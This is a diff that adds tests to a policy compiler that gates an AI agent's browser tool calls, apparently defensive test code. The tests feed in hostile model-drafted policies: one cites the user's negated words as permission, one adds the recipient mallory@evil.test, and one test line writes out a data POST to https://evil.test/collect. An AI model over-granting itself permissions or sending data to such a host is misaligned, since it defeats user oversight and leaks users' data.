@@ -126,6 +126,57 @@ describe('LLM compiler through the real openai client against a local chat-compl
     }
   });
 
+  it('a model citing a negated list ("post or share anything") as evidence gains nothing, under any backend', async () => {
+    const request = "Open the news site at news.example.test and summarize today's top story for me. Do not send, post or share anything.";
+    const negationQuoting: PolicyDraft = {
+      permissions: [
+        perm({ riskClass: 'EXTERNAL_WRITE', quote: 'post or share anything', domains: ['news.example.test'] }),
+        perm({ riskClass: 'PERMISSION_CHANGE', quote: 'share anything' }),
+        perm({ riskClass: 'COMMUNICATION', quote: 'Do not send, post or share anything' }),
+      ],
+      readDomains: ['news.example.test'],
+      openWeb: false,
+      prohibitions: [],
+    };
+    const { policy, report } = await withServer(() => answer(negationQuoting), request);
+    expect(allowedClasses(policy)).toEqual([]);
+    expect(report.removed).toEqual(expect.arrayContaining([{ ref: 'allow.classes:EXTERNAL_WRITE', why: 'the quote lies inside a negation: words the user negated are never evidence' }]));
+    expect(policy.prohibitions.flatMap((p) => p.classes).sort()).toEqual(['COMMUNICATION', 'EXTERNAL_WRITE', 'PERMISSION_CHANGE']);
+    const post = { tool: 'browser.form_submit', args: { url: 'https://news.example.test/comments', method: 'POST', fields: { text: 'nice' }, submitText: 'Post' } };
+    expect(decide(policy, post)).toBe('BLOCK');
+  });
+
+  it('site-less request: whatever the draft says, the named recipient on an unnamed site asks (site_binding under the good model), anyone else never passes', async () => {
+    const request = 'Reply to Alice at alice@example.test and tell her I will attend the meeting on Friday.';
+    const good: PolicyDraft = {
+      permissions: [perm({ riskClass: 'COMMUNICATION', quote: 'Reply to Alice at alice@example.test', recipients: ['alice@example.test'], domains: ['mail.example.test'] })],
+      readDomains: ['mail.example.test'],
+      openWeb: false,
+      prohibitions: [],
+    };
+    const reusing: PolicyDraft = {
+      ...good,
+      permissions: [
+        perm({ riskClass: 'COMMUNICATION', quote: 'Reply to Alice at alice@example.test', recipients: ['alice@example.test', 'mallory@evil.test'], domains: ['evil.test'] }),
+        perm({ riskClass: 'FINANCIAL', quote: 'Reply to Alice at alice@example.test', recipients: ['alice@example.test'] }),
+      ],
+      readDomains: ['evil.test'],
+    };
+    const send = (to: string) => ({ tool: 'browser.form_submit', args: { url: 'https://mail.example.test/send', method: 'POST', fields: { to, subject: 'Re', body: 'I will attend.' }, submitText: 'Send' } });
+    for (const draft of [good, OVER_BROAD, reusing]) {
+      const { policy } = await withServer(() => answer(draft), request);
+      await server!.close();
+      server = undefined;
+      // The words write no site: nothing is listed, whatever the draft's domains.
+      expect(policy.domains).toBeNull();
+      expect(policy.constraints.flatMap((k) => k.domains ?? [])).toEqual([]);
+      expect(decide(policy, send('alice@example.test'))).toBe('ASK_USER');
+      expect(decide(policy, send('mallory@evil.test'))).not.toBe('ALLOW');
+      expect(decide(policy, { tool: 'browser.request', args: { method: 'POST', url: 'https://evil.test/collect', body: { data: 'x' } } })).not.toBe('ALLOW');
+      if (draft === good) expect(evaluate(policy, initialState(), send('alice@example.test'), NOW + 1).record.check).toBe('site_binding');
+    }
+  });
+
   it('invalid JSON then valid: retried once', async () => {
     const { policy, report } = await withServer((_req, i) => (i === 0 ? { content: '{"permissions": [' } : answer(GOOD)));
     expect(report.modelCalls).toBe(2);
